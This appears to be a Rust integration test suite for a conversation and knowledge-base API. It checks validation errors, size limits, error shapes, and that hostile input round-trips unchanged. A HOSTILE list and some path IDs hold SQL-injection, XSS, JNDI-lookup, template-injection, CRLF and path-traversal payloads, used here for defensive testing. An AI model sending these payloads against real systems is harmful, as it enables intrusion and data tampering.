//! Wrong input gets a clear refusal; hostile input is data like any other.

use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::{caller::Answer, house::House};

const CONVERSATIONS: &str = "/api/v1/conversations";
const NOBODY: &str = "0198c0de-0000-7000-8000-000000000000";

/// A POST of these bytes, said to be of this type.
async fn raw(house: &House, path: &str, kind: Option<&str>, body: impl Into<Vec<u8>>) -> Answer {
    let mut request = house.bank.request("POST", path).body(body.into());
    if let Some(kind) = kind {
        request = request.header("content-type", kind);
    }
    Answer::of(request).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn everything_wrong_with_an_input_is_said_at_once() {
    let house = House::new().await;
    let wrong = json!({
        "userId": "", "channel": "telegraph", "initialMessage": "x".repeat(5001),
        "language": "dansk", "metadata": "none", "extra": 1,
    });
    let refused = house.bank.post(CONVERSATIONS, &wrong).await;
    let fields = [
        "channel",
        "extra",
        "initialMessage",
        "language",
        "metadata",
        "userId",
    ];
    assert_eq!(refused.wrong_fields(), fields);
    for error in refused.json()["errors"].as_array().unwrap() {
        let said = |name: &str| error[name].as_str().is_some_and(|text| !text.is_empty());
        assert!(said("message") && said("code"), "{error}");
    }
    let channel = &refused.json()["errors"];
    let channel = channel
        .as_array()
        .unwrap()
        .iter()
        .find(|one| one["field"] == "channel")
        .unwrap();
    assert!(
        channel["message"].as_str().unwrap().contains("mobile"),
        "names the options: {channel}"
    );
    // Deep inside of a list, and in a query.
    let examples = json!({"examples": [{"text": "hej", "intent": "hi"}, {"text": 5}]});
    let refused = house.bank.post("/api/v1/intents/import", &examples).await;
    assert_eq!(
        refused.wrong_fields(),
        ["examples.1.intent", "examples.1.text"]
    );
    let refused = house
        .bank
        .get("/api/v1/conversations?limit=0&status=asleep&colour=red")
        .await;
    assert_eq!(refused.wrong_fields(), ["colour", "limit", "status"]);
    let refused = house.bank.get("/api/v1/conversations?limit=many").await;
    assert_eq!(refused.wrong_fields(), ["limit"]);
    let nothing = raw(&house, CONVERSATIONS, None, "").await;
    assert_eq!(nothing.wrong_fields(), ["channel", "userId"]);
    let login = json!({"email": 7, "extra": true});
    let refused = house.anonymous().post("/api/v1/auth/login", &login).await;
    assert_eq!(refused.wrong_fields(), ["email", "extra", "password"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_that_cannot_be_read_is_refused_by_what_is_wrong_with_it() {
    let house = House::new().await;
    let json = Some("application/json");
    for broken in [
        "{\"userId\": \"a\", ",
        "not json at all",
        "{\"userId\": 'a'}",
        "{\"a\":1}{\"b\":2}",
        "[1,2",
        "\u{feff}{}",
    ] {
        let refused = raw(&house, CONVERSATIONS, json, broken).await;
        let refused = refused.fails(400, "validation_failed");
        assert!(
            refused["error"]["message"]
                .as_str()
                .unwrap()
                .contains("not JSON"),
            "{refused}"
        );
    }
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    raw(&house, CONVERSATIONS, json, deep)
        .await
        .fails(400, "validation_failed");
    for not_an_object in ["[]", "null", "\"text\"", "7"] {
        raw(&house, CONVERSATIONS, json, not_an_object)
            .await
            .fails(400, "validation_failed");
    }
    let half_a_letter = b"{\"userId\": \"\xc3\", \"channel\": \"web\"}";
    raw(&house, CONVERSATIONS, json, half_a_letter.as_slice())
        .await
        .fails(400, "validation_failed");
    let half_a_pair = r#"{"userId": "\ud800", "channel": "web"}"#;
    raw(&house, CONVERSATIONS, json, half_a_pair)
        .await
        .fails(400, "validation_failed");
    let form = "userId=a&channel=web";
    for kind in [
        None,
        Some("application/x-www-form-urlencoded"),
        Some("text/plain"),
        Some("é"),
    ] {
        raw(&house, CONVERSATIONS, kind, form)
            .await
            .fails(415, "unsupported_media_type");
    }
    let upload = "/api/v1/knowledge/documents/upload";
    raw(&house, upload, json, "{}")
        .await
        .fails(415, "unsupported_media_type");

    // A NUL cannot be stored; the field that holds it is named, however deep it sits.
    let nul = json!({
        "userId": "a\0b", "channel": "web", "metadata": {"list": ["fine", "not\0fine"]},
    });
    let refused = house.bank.post(CONVERSATIONS, &nul).await;
    assert_eq!(refused.wrong_fields(), ["metadata.list.1", "userId"]);
    let refused = house.bank.get("/api/v1/conversations?q=a%00b").await;
    assert_eq!(refused.wrong_fields(), ["q"]);
    // Bytes in a query that are no UTF-8 are just text that finds nothing.
    assert!(
        house
            .bank
            .get("/api/v1/conversations?q=%ff%fe")
            .await
            .items()
            .is_empty()
    );
    assert!(house.bank.get(CONVERSATIONS).await.items().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn more_than_is_taken_is_refused_and_the_server_serves_on() {
    let house = House::new().await;
    let huge = vec![b' '; 20 * 1024 * 1024];
    let refused = raw(
        &house,
        CONVERSATIONS,
        Some("application/json"),
        huge.clone(),
    )
    .await;
    refused.fails(413, "payload_too_large");
    assert!(refused.text.contains("12 MiB"), "{refused:?}");
    // As much as is taken is read to its end.
    let large = format!(r#"{{"surplus":"{}"}}"#, "x".repeat(11 * 1024 * 1024));
    let read = raw(&house, CONVERSATIONS, Some("application/json"), large).await;
    assert!(
        read.wrong_fields().contains(&"surplus".to_owned()),
        "{read:?}"
    );
    let login = house.anonymous().request("POST", "/api/v1/auth/login");
    let login = login
        .header("content-type", "application/json")
        .body(huge.clone());
    Answer::of(login).await.fails(413, "payload_too_large");
    let upload = |bytes: Vec<u8>, name: &str| {
        let form = Form::new().part("file", Part::bytes(bytes).file_name(name.to_owned()));
        Answer::of(
            house
                .bank
                .request("POST", "/api/v1/knowledge/documents/upload")
                .multipart(form),
        )
    };
    upload(vec![b'a'; 22 * 1024 * 1024], "large.txt")
        .await
        .fails(413, "payload_too_large");
    // Files that are broken, empty, or no documents at all.
    for (bytes, name) in [
        (b"\x89PNG\r\n\x1a\n".to_vec(), "picture.png"),
        (Vec::new(), "empty.md"),
    ] {
        let refused = upload(bytes, name).await;
        assert!(
            refused.status.is_client_error(),
            "{name}: {} {}",
            refused.status,
            refused.text
        );
        let code = refused.json()["error"]["code"].as_str().unwrap().to_owned();
        refused.fails(refused.status.as_u16(), &code);
    }
    // What turns out broken while it is read says so in its own place, and how to mend it.
    for (bytes, name, says) in [
        (b"Kortet \xc3( koster".to_vec(), "letters.md", "UTF-8"),
        (b"%PDF-1.7\n%broken".to_vec(), "broken.pdf", "PDF"),
    ] {
        let stored = upload(bytes, name).await.ok();
        house.ended(&stored["runId"]).await;
        let id = stored["document"]["id"].as_str().unwrap();
        let document = house
            .bank
            .get(&format!("/api/v1/knowledge/documents/{id}"))
            .await
            .ok();
        assert_eq!(document["status"], "failed", "{document}");
        assert!(
            document["error"].as_str().unwrap().contains(says),
            "{document}"
        );
    }
    let no_file = house
        .bank
        .request("POST", "/api/v1/knowledge/documents/upload");
    let no_file = Answer::of(no_file.multipart(Form::new().text("category", "kort"))).await;
    assert_eq!(no_file.wrong_fields(), ["file"]);
    // An id that is far too long, in the path and as a request id.
    let long = "x".repeat(8000);
    let answer = house.bank.get(&format!("{CONVERSATIONS}/{long}")).await;
    assert_eq!(answer.wrong_fields(), ["id"]);
    let request = house
        .bank
        .request("GET", CONVERSATIONS)
        .header("x-request-id", &long);
    let answer = Answer::of(request).await;
    assert!(answer.status.is_success() && answer.header("x-request-id").len() < 100);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_not_there_is_said_in_the_one_shape() {
    let house = House::new().await;
    let bank = &house.bank;
    for path in [
        format!("{CONVERSATIONS}/{NOBODY}"),
        format!("{CONVERSATIONS}/{NOBODY}/messages"),
        format!("/api/v1/knowledge/documents/{NOBODY}"),
        format!("/api/v1/knowledge/documents/{NOBODY}/chunks"),
        format!("/api/v1/runs/{NOBODY}"),
        "/api/v1/intents/nothing".to_owned(),
        "/api/v1/rules/nothing".to_owned(),
        "/api/v1/nothing".to_owned(),
        "/api/v2/conversations".to_owned(),
        "/health/nothing".to_owned(),
        "/assets/nothing.js".to_owned(),
    ] {
        let body = bank.get(&path).await.fails(404, "not_found");
        assert_eq!(body["error"]["path"], path.as_str());
    }
    for id in [
        "7",
        "not-an-id",
        "%27%20OR%201=1",
        "..%2f..%2fetc%2fpasswd",
        "%F0%9F%92%A9",
    ] {
        let refused = bank.get(&format!("{CONVERSATIONS}/{id}")).await;
        assert_eq!(refused.wrong_fields(), ["id"], "{id}");
    }
    bank.get(&format!("{CONVERSATIONS}/%ff"))
        .await
        .fails(400, "validation_failed");
    for cursor in ["garbage", "eyJ4IjoxfQ", "W10", "bnVsbA", "%00", "-1"] {
        for list in [
            "conversations",
            "knowledge/documents",
            "runs",
            "users",
            "intents",
        ] {
            let refused = bank.get(&format!("/api/v1/{list}?cursor={cursor}")).await;
            assert_eq!(refused.wrong_fields(), ["cursor"], "{list} {cursor}");
        }
    }
    for (method, path) in [
        ("DELETE", CONVERSATIONS),
        ("PUT", "/health"),
        ("GET", "/api/v1/auth/login"),
    ] {
        let answer = bank.send(method, path, &json!({})).await;
        assert_eq!(answer.status, 405, "{method} {path}: {}", answer.text);
        assert!(
            !answer.header("allow").is_empty(),
            "{method} {path} names no method that works"
        );
        let body = answer.json();
        assert_eq!(body["error"]["statusCode"], 405, "{body}");
        assert!(body["error"]["message"].is_string(), "{body}");
    }
}

/// Texts that do harm where somebody mistakes data for code.
const HOSTILE: &[&str] = &[
    "'; DROP TABLE messages; --",
    "\" OR \"\"=\"",
    "$1 %s {0} ${jndi:ldap://x.example/a} {{7*7}}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\\'; SELECT pg_sleep(9) --\\",
    "../../etc/passwd",
    "line\r\nSet-Cookie: a=b",
    "\u{202e}tfel ot thgir\u{200b} \u{1F469}\u{200D}\u{1F4BB} Å\u{030A}",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sql_and_html_in_every_field_are_data_and_come_back_as_they_were() {
    let house = House::new().await;
    let bank = &house.bank;
    let has = |value: &Value, text: &str| value.as_str() == Some(text);
    for (number, text) in HOSTILE.iter().enumerate() {
        let new = json!({
            "userId": text, "customerName": text, "channel": "web", "initialMessage": text,
            "metadata": {*text: [text]},
        });
        let made = bank.post(CONVERSATIONS, &new).await.ok();
        let id = made["id"].as_str().unwrap();
        let seen = house.standing(id).await;
        assert!(
            has(&seen["userId"], text) && has(&seen["customerName"], text),
            "{seen}"
        );
        assert_eq!(seen["metadata"], new["metadata"]);
        assert!(has(&house.messages(id).await[0]["content"], text));
        let notes = json!({"resolutionNotes": text});
        bank.post(
            &format!("{CONVERSATIONS}/{id}/escalate"),
            &json!({"reason": text}),
        )
        .await
        .ok();
        bank.post(&format!("{CONVERSATIONS}/{id}/resolve"), &notes)
            .await
            .ok();
        let escalation = house.standing(id).await["escalation"].clone();
        assert!(has(&escalation["resolutionNotes"], text), "{escalation}");

        let tag: String = text.chars().take(50).collect();
        let document = json!({
            "title": text, "content": format!("Et afsnit om {text} og mere."), "format": "text",
            "category": text, "tags": [tag], "externalId": text,
        });
        let stored = bank
            .post("/api/v1/knowledge/documents", &document)
            .await
            .ok();
        house.ended(&stored["runId"]).await;
        let path = format!(
            "/api/v1/knowledge/documents/{}",
            stored["document"]["id"].as_str().unwrap()
        );
        let seen = bank.get(&path).await.ok();
        assert!(
            has(&seen["title"], text) && has(&seen["category"], text),
            "{seen}"
        );
        assert_eq!(seen["tags"], json!([tag]));
        let found = bank
            .post("/api/v1/knowledge/search", &json!({"query": text}))
            .await
            .ok();
        assert!(found["results"].is_array(), "{found}");
        bank.post("/api/v1/nlu/analyze", &json!({"text": text}))
            .await
            .ok();

        let name = format!("intent_{number}");
        let intent = json!({"name": name, "description": text, "examples": [{"text": text}]});
        bank.post("/api/v1/intents", &intent).await.ok();
        let seen = bank.get(&format!("/api/v1/intents/{name}")).await.ok();
        assert!(has(&seen["description"], text), "{seen}");
        let key = json!({"name": text, "scopes": ["runs:read"]});
        assert!(has(
            &bank.post("/api/v1/api-keys", &key).await.ok()["name"],
            text
        ));
        // In lists' filters they find what holds them, or nothing; never everything.
        let encoded: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let query = |path: &str, name: &str| {
            Answer::of(bank.request("GET", &format!("{path}?{name}={encoded}")))
        };
        let found = query(CONVERSATIONS, "q").await.items();
        assert!(
            found.len() <= 1,
            "{text} finds {} conversations",
            found.len()
        );
        let found = query("/api/v1/knowledge/documents", "q").await.items();
        assert!(found.len() <= 1, "{text} finds {} documents", found.len());
        for (path, name) in [
            ("events", "types"),
            ("audit", "operation"),
            ("runs", "kind"),
        ] {
            let answer = query(&format!("/api/v1/{path}"), name).await;
            assert!(!answer.status.is_server_error(), "{path}: {}", answer.text);
            assert!(
                answer.status.is_client_error() || answer.items().is_empty(),
                "{path}: {text}"
            );
        }
        let login = json!({"email": text, "password": text});
        house
            .anonymous()
            .post("/api/v1/auth/login", &login)
            .await
            .fails(401, "unauthenticated");
        let key = reqwest::header::HeaderValue::from_bytes(text.as_bytes());
        if key.is_ok_and(|key| key.to_str().is_ok()) {
            bank.with_key(text)
                .get(CONVERSATIONS)
                .await
                .fails(401, "unauthenticated");
        }
    }
    assert_eq!(
        bank.get("/api/v1/conversations?limit=100")
            .await
            .items()
            .len(),
        HOSTILE.len()
    );
}
